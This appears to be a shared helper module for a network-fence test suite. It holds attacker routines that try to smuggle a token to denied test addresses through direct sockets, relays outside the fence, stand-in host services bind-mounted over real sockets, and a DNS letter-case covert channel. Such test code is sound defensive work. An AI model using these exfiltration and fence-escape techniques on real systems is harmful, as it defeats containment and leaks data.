"""What every attacker program of tests/security/vectors/ shares.

A vector file is run three ways (tests/security/run.py decides which):

    python3 VECTOR.py job TOKEN [ARG...]      inside the fenced job (the attack)
    python3 VECTOR.py hosts TOKEN [ARG...]    in the test hosts' namespace, once
                                              the job printed READY (a peer)
    (import) VECTOR.outside(token, st)        in the fence namespace, unfenced, as
                                              root, before the job starts (an
                                              accomplice: relays, inherited fds)

The job prints what it saw as JSON lines, for the failure report only: the
verdict never reads them. Python 3 stdlib only.
"""
import ctypes
import errno
import json
import os
import socket
import struct
import subprocess
import sys

# The test world (tests/integration/world.py)
A4, A6 = "198.18.1.1", "2001:db8:1::1"       # allowed by the vectors' policies
A4B, A6B = "198.18.1.2", "2001:db8:1::2"     # allowed, rewritten by a DNAT vector
D4, D6 = "198.18.2.4", "2001:db8:1::4"       # denied: the token must never reach it
D4B = "198.18.2.5"                           # denied, a second one
FENCE_V4, FENCE_V6 = "198.18.0.1", "2001:db8::1"
HOSTS_V4, HOSTS_V6 = "198.18.0.2", "2001:db8::2"
DNS_V4, DNS_V6 = "198.18.0.53", "2001:db8::53"
TCP_PORT, UDP_PORT = 443, 9999

IPPROTO_MPTCP = 262
UDP_SEGMENT = 103
UDP_CORK = 1
TCP_FASTOPEN_CONNECT = 30
IPV6_RTHDR = 57
IPV6_NEXTHOP = 9
IP_OPTIONS = 4
IP_RETOPTS = 7


def out(**kw):
    sys.stdout.write(json.dumps(kw, default=str) + "\n")
    sys.stdout.flush()


def ready():
    sys.stdout.write("READY\n")
    sys.stdout.flush()


def err_name(e):
    return errno.errorcode.get(getattr(e, "errno", None) or 0, repr(e))


def attempt(what, fn, *a, **kw):
    """Run one step; print what happened; never raise (the attacker goes on)."""
    try:
        r = fn(*a, **kw)
        out(step=what, ok=True, result=r if isinstance(r, (int, str, type(None))) else None)
        return r
    except OSError as e:
        out(step=what, ok=False, err=err_name(e))
    except Exception as e:  # noqa: BLE001 - the report wants every failure
        out(step=what, ok=False, err=repr(e))
    return None


def payload(token, what=""):
    return ("%s %s\n" % (token, what)).encode()


def tcp_send(host, port, token, fam=None, timeout=2.0):
    fam = fam or (socket.AF_INET6 if ":" in host else socket.AF_INET)
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.settimeout(timeout)
    try:
        s.connect((host, port))
        s.sendall(payload(token, "tcp"))
        try:
            return s.recv(256).decode(errors="replace")
        except OSError:
            return ""
    finally:
        s.close()


def udp_sendto(host, port, token, fam=None):
    fam = fam or (socket.AF_INET6 if ":" in host else socket.AF_INET)
    s = socket.socket(fam, socket.SOCK_DGRAM)
    try:
        return s.sendto(payload(token, "udp"), (host, port))
    finally:
        s.close()


def sockaddr_in(host, port):
    """struct sockaddr_in / sockaddr_in6 bytes."""
    if ":" in host:
        return struct.pack("=HHI16sI", socket.AF_INET6, socket.htons(port), 0,
                           socket.inet_pton(socket.AF_INET6, host), 0)
    return struct.pack("=HH4s8x", socket.AF_INET, socket.htons(port),
                       socket.inet_aton(host))



# struct iovec, msghdr and mmsghdr (x86_64 and arm64 layouts), for sendmmsg()
class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


class msghdr(ctypes.Structure):
    _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint32),
                ("iov", ctypes.POINTER(iovec)), ("iovlen", ctypes.c_size_t),
                ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
                ("flags", ctypes.c_int)]


class mmsghdr(ctypes.Structure):
    _fields_ = [("hdr", msghdr), ("len", ctypes.c_uint)]

def main(module_globals):
    """Dispatch `VECTOR.py job|hosts TOKEN ARGS...` to job()/hosts()."""
    role, token, args = sys.argv[1], sys.argv[2], sys.argv[3:]
    fn = module_globals.get(role)
    if fn is None:
        sys.exit("no role %r in %s" % (role, sys.argv[0]))
    fn(token, args)
    sys.stdout.flush()
    os._exit(0)  # no lingering threads: the judge looks at what left, not at us


# -- accomplices outside the fence (outside() of a vector) --------------------

def fork_relay(st, listen, port, dest, dport, udp=False, lifetime=20):
    """A relay outside the job: listens on (listen, port), forwards each TCP
    connection (or each datagram) to (dest, dport), unfenced. Its pid goes
    in st["pids"] (killed when the job ends)."""
    fam = socket.AF_INET6 if ":" in listen else socket.AF_INET
    srv = socket.socket(fam, socket.SOCK_DGRAM if udp else socket.SOCK_STREAM)
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind((listen, port))
    if not udp:
        srv.listen(8)
    pid = os.fork()
    if pid:
        srv.close()
        st["pids"].append(pid)
        return
    try:
        import select
        import time
        srv.settimeout(lifetime)
        deadline = time.time() + lifetime
        if udp:
            while time.time() < deadline:
                data, _peer = srv.recvfrom(65536)
                f = socket.socket(socket.AF_INET6 if ":" in dest else socket.AF_INET,
                                  socket.SOCK_DGRAM)
                f.sendto(data, (dest, dport))
                f.close()
        while time.time() < deadline:
            c, _ = srv.accept()
            f = socket.create_connection((dest, dport), timeout=3)
            pair = {c: f, f: c}
            while pair and time.time() < deadline:
                rd, _, _ = select.select(list(pair), [], [], 1)
                for s in rd:
                    data = s.recv(65536)
                    if not data:
                        pair = {}
                        break
                    pair[s].sendall(data)
            c.close()
            f.close()
    except Exception:  # noqa: BLE001
        pass
    os._exit(0)


def host_service(st, path, dest, dport, user_dir=None, delay=0.0, restart=0.0, lifetime=20):
    """A stand-in for a service of the host that acts for whoever connects
    to its unix socket at `path` (a resolver, a bus, a service manager, a
    terminal multiplexer): it sends what it reads to (dest, dport), from
    outside the fence. Where the host has a socket at `path` already, the
    stand-in's is bind-mounted over it for the run; otherwise it is made
    there, with the directories it needs; `user_dir` and what is under it
    belong to uid 65534 (user_dir itself mode 0700, as a per-user runtime
    directory would be). With `delay`, the socket appears that many seconds
    after the job started (a service started later); with `restart`, it is
    deleted and made anew that many seconds after (a service restarted).
    host_service_cleanup() undoes it all."""
    import tempfile
    import time
    made = st.setdefault("made", [])
    bind_over = os.path.lexists(path)
    if bind_over:
        tmp = tempfile.mkdtemp(prefix="ef-sec-svc-")
        made.append(("dir", tmp))
        sock = os.path.join(tmp, "s")
    else:
        parts, d = [], os.path.dirname(path)
        while not os.path.isdir(d):
            parts.append(d)
            d = os.path.dirname(d)
        for d in reversed(parts):
            os.mkdir(d, 0o700 if d == user_dir else 0o755)
            if user_dir and (d + "/").startswith(user_dir + "/"):
                os.chown(d, 65534, 65534)
            made.append(("dir", d))
        sock = path
    made.append(("file", sock))
    if bind_over:
        made.append(("mount", path))

    def listen():
        srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        srv.bind(sock)
        os.chmod(sock, 0o666)
        srv.listen(8)
        if bind_over:
            subprocess.run(["mount", "--bind", sock, path], check=True)
        return srv

    srv = None if delay else listen()
    pid = os.fork()
    if pid:
        if srv:
            srv.close()
        st["pids"].append(pid)
        if not delay:
            host_service_control(path)
        return
    try:
        if delay:
            time.sleep(delay)
            srv = listen()
        deadline = time.time() + lifetime
        restart_at = time.time() + restart if restart else None
        while time.time() < deadline:
            if restart_at and time.time() >= restart_at:
                srv.close()
                if bind_over:
                    subprocess.run(["umount", path], check=False)
                os.unlink(sock)
                srv, restart_at = listen(), None
            srv.settimeout(0.2 if restart_at else max(0.1, deadline - time.time()))
            try:
                c, _ = srv.accept()
            except socket.timeout:
                continue
            c.settimeout(3)
            data = c.recv(65536)
            if data == b"CONTROL":
                c.sendall(b"OK")
            elif b"EFSEC" in data:
                # a job's token; what else comes (glibc asking nscd for the harness's
                # own lookups) is not the vector's
                f = socket.create_connection((dest, dport), timeout=3)
                f.sendall(b"relayed by a host service: " + data)
                f.close()
            c.close()
    except Exception:  # noqa: BLE001
        pass
    os._exit(0)


CONTROL = r"""
import socket, sys
u = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
u.settimeout(3)
u.connect(sys.argv[1])
u.sendall(b"CONTROL")
sys.stdout.write(u.recv(16).decode())
"""


def host_service_control(path):
    """The control: uid 65534, outside the fence, reaches the stand-in (which
    answers and relays nothing); else the vector would pass for nothing."""
    r = subprocess.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--",
                        sys.executable, "-c", CONTROL, path], capture_output=True, text=True,
                       timeout=10)
    if r.stdout != "OK":
        raise RuntimeError("control: uid 65534 outside the fence did not reach the stand-in "
                           "at %s: %s %s" % (path, r.stdout, r.stderr.strip()))


def host_service_ask(path, token, wait=0.0):
    """The job's side: connect to a host service's socket at `path` (after
    `wait` seconds) and hand it the token."""
    import time
    time.sleep(wait)

    def ask():
        u = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        u.settimeout(2)
        u.connect(path)
        u.sendall(payload(token, "host service"))
        time.sleep(0.5)
        u.close()
    attempt("ask the host service at %s" % path, ask)


def host_service_vector(path, user_dir=None, delay=0.0, restart=0.0, wait=0.0, env=None,
                        users=("nobody",)):
    """What a host-service vector declares, for its globals(): a job (uid
    65534, policy allowing A4:443 only) hands the token to a stand-in at
    `path` (host_service(): user_dir, delay, restart as there), which sends it
    to the denied D4:443; the job asks after `wait` seconds, with `env` added
    to its environment; run as each of `users`. Nothing may arrive."""

    def outside(token, st):
        host_service(st, path, D4, 443, user_dir=user_dir, delay=delay, restart=restart)
        return {"args": [path], "env": dict(env or {})}

    def outside_cleanup(st):
        host_service_cleanup(st)

    def job(token, args):
        host_service_ask(args[0], token, wait=wait)

    return {"POLICY": {"allow": [A4 + ":443"]}, "AS": tuple(users), "SINKS_OK": [],
            "DENIED": [(D4, 443, "tcp")], "PATH": path, "outside": outside,
            "outside_cleanup": outside_cleanup, "job": job}


def host_service_cleanup(st):
    import shutil
    for kind, p in reversed(st.get("made", [])):
        try:
            if kind == "mount":
                subprocess.run(["umount", p], check=False)
            elif kind == "file":
                os.unlink(p)
            else:
                shutil.rmtree(p, ignore_errors=True)
        except OSError:
            pass


# -- DNS by hand (tests/integration/dnsmsg.py) ---------------------------------
sys.path.insert(1, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..",
                                "integration"))
import dnsmsg  # noqa: E402

SECDNS = "198.18.1.8"  # run.py's second dnsmasq: *.tun.test, nat64*.test


def dns_raw_name(name):
    """Wire-format name keeping the caller's case (dnsmsg.encode_name does too)."""
    return b"".join(bytes([len(x)]) + x.encode("latin-1") for x in name.rstrip(".").split(".")) \
        + b"\0"


def dns_query_bytes(name, qtype=1, qid=None, an=b"", ns=b"", ar=b"", counts=(0, 0, 0)):
    qid = qid if qid is not None else struct.unpack("!H", os.urandom(2))[0]
    return struct.pack("!HHHHHH", qid, 0x0100, 1, counts[0], counts[1], counts[2]) + \
        dns_raw_name(name) + struct.pack("!HH", qtype, 1) + an + ns + ar


def dns_udp(server, msg, port=53, timeout=1.0):
    s = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(timeout)
    try:
        s.sendto(msg, (server, port))
        return s.recv(4096)
    finally:
        s.close()


def dns_tcp(server, msg, port=53, timeout=2.0):
    s = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(timeout)
    try:
        s.connect((server, port))
        s.sendall(struct.pack("!H", len(msg)) + msg)
        head = s.recv(2)
        return s.recv(struct.unpack("!H", head)[0]) if len(head) == 2 else b""
    finally:
        s.close()


def dns_addresses(reply):
    try:
        return dnsmsg.summarize({"answered": True, "reply": reply, "transport": "udp"}
                                ).get("addresses", [])
    except Exception:  # noqa: BLE001
        return []


def case_pattern(token, name):
    """The job's case channel: bit i of sha256(token) sets the case of letter i."""
    import hashlib
    bits = int.from_bytes(hashlib.sha256(token.encode()).digest(), "big")
    out, i = [], 0
    for ch in name.lower():
        if ch.isalpha():
            out.append(ch.upper() if (bits >> i) & 1 else ch)
            i += 1
        else:
            out.append(ch)
    return "".join(out)
